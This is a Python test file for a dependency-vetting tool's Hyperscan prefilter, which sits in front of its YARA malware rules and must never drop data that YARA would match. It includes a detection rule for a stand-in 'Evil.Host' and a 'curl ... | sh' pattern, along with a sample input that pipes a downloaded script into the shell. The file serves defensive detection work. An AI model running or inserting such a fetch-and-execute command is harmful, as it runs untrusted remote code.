"""The Hyperscan pre-check in front of YARA: it may let through more than YARA matches,
never less, and it is not built for rule sets where that could not be promised."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from depvet.detectors.patterns import compiled_prefilter, compiled_rules, yara_source
from depvet.detectors.prefilter import _unbounded, build
from tests.detectors.fixtures import FIXTURES

# Every byte string of every rule fixture, and its lines: material for data that sets
# off the rules (one line holds one string, two lines meet a rule's "and").
_FIXTURE_DATA = sorted(
    {f.data for fixtures in FIXTURES.values() for f in [*fixtures.positive, *fixtures.benign]}
)
_LINES = sorted({line for data in _FIXTURE_DATA for line in data.splitlines() if line.strip()})


def _yara_matches(data: bytes) -> bool:
    return bool(compiled_rules().match(data=data, fast=True))


def test_the_bundled_rules_get_a_prefilter_with_every_string() -> None:
    prefilter = compiled_prefilter()
    assert prefilter is not None
    definitions = re.findall(r"^\s+\$\w*\s*=", yara_source(), re.M)
    assert prefilter.strings == len(definitions) > 100


def test_no_fixture_that_yara_matches_is_kept_from_it() -> None:
    prefilter = compiled_prefilter()
    assert prefilter is not None
    matched = [data for data in _FIXTURE_DATA if _yara_matches(data)]
    assert len(matched) > 40  # the fixtures do exercise the rules
    assert all(prefilter.may_match(data) for data in matched)


@settings(max_examples=300, deadline=None)
@given(
    lines=st.lists(st.sampled_from(_LINES), max_size=6),
    noise=st.binary(max_size=40),
)
def test_combined_fixture_lines_that_yara_matches_pass_the_prefilter(
    lines: list[bytes], noise: bytes
) -> None:
    data = noise.join(lines) if lines else noise
    prefilter = compiled_prefilter()
    assert prefilter is not None
    if _yara_matches(data):
        assert prefilter.may_match(data)


def test_plain_code_is_kept_from_yara() -> None:
    prefilter = compiled_prefilter()
    assert prefilter is not None
    assert not prefilter.may_match(b"import json\n\ndef load(path):\n    return json.load(path)\n")
    assert not prefilter.may_match(b"")


_RULES = """
rule text_and_regex {
    strings:
        $a = "Evil\\x2eHost" nocase fullword
        $b = /curl\\s{1,4}[^\\n]{0,300}\\|\\s{0,2}sh/
    condition:
        $a or ($b and any of them)
}
"""


def test_a_small_rule_set_is_checked_for_its_strings() -> None:
    prefilter = build(_RULES)
    assert prefilter is not None and prefilter.strings == 2
    assert prefilter.may_match(b"connect('EVIL.host')")
    assert prefilter.may_match(b"curl  http://x.invalid/a | sh")
    assert prefilter.may_match(b"evil.hostname")  # fullword dropped: more, never less
    assert not prefilter.may_match(b"curl http://x.invalid/a > out")


@pytest.mark.parametrize(
    ("strings", "condition"),
    [
        ('$a = "x1234"', "not $a"),  # true when nothing matched
        ('$a = "x1234"', "filesize < 100 or $a"),
        ('$a = "x1234"', "#a > 2"),
        ('$a = "x1234" wide', "$a"),  # UTF-16 text is not looked for
        ('$a = "x1234" xor', "$a"),
        ("$a = { 41 42 43 44 }", "$a"),  # hex strings are not translated
        ('$a = "x1234" base64', "$a"),
    ],
)
def test_rule_sets_it_cannot_stand_for_get_no_prefilter(strings: str, condition: str) -> None:
    source = f"rule r {{\n  strings:\n    {strings}\n  condition:\n    {condition}\n}}\n"
    assert build(source) is None


def test_a_rule_it_could_not_take_apart_means_no_prefilter() -> None:
    # The closing brace is not at the start of a line: the rule is not recognised.
    assert build('rule r { strings: $a = "x1234" condition: $a }\n') is None
    assert build(_RULES + 'private rule p { strings: $a = "y" condition: $a }\n') is None


def test_counted_repeats_are_opened() -> None:
    assert _unbounded(r"a{0,3}b{2}c{1,}d") == "a*b+c+d"
    assert _unbounded(r"\{2[3-6](,[0-9]{2})?\}") == r"\{2[3-6](,[0-9]+)?\}"
    assert _unbounded(r"[{]{3}x[^]{]{2,5}") == "[{]+x[^]{]+"
    assert _unbounded(r"\\{3}") == r"\\+"
